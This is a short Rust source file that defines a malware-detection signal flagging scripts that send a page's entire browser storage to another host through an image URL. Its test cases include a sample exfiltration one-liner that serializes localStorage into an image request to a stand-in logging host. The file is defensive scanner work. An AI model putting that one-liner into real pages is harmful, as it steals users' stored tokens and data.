//! `storage-in-address`.

use crate::facts::Atom;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "storage-in-address",
    description: "The script sends everything this page stores in the browser to another host in an image URL.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::AllStorageSent]), one(&[Atom::AllStorage]), one(&[Atom::Image])],
    within: 60,
    only_if: Some(is_near),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &["new Image().src='http://c.example/log.php?s='+JSON.stringify(localStorage)"],
        without: &[
            "new Image().src='http://c.example/log.php?s='+localStorage.getItem('theme')",
            "fetch('/sync',{method:'POST',body:JSON.stringify(localStorage)})",
        ],
    },
};

/// Whether the storage is read and sent in a few lines.
fn is_near(_: &Evidence<'_>, held: Held) -> bool {
    held.last - held.first <= NEAR
}

const NEAR: u32 = 90;
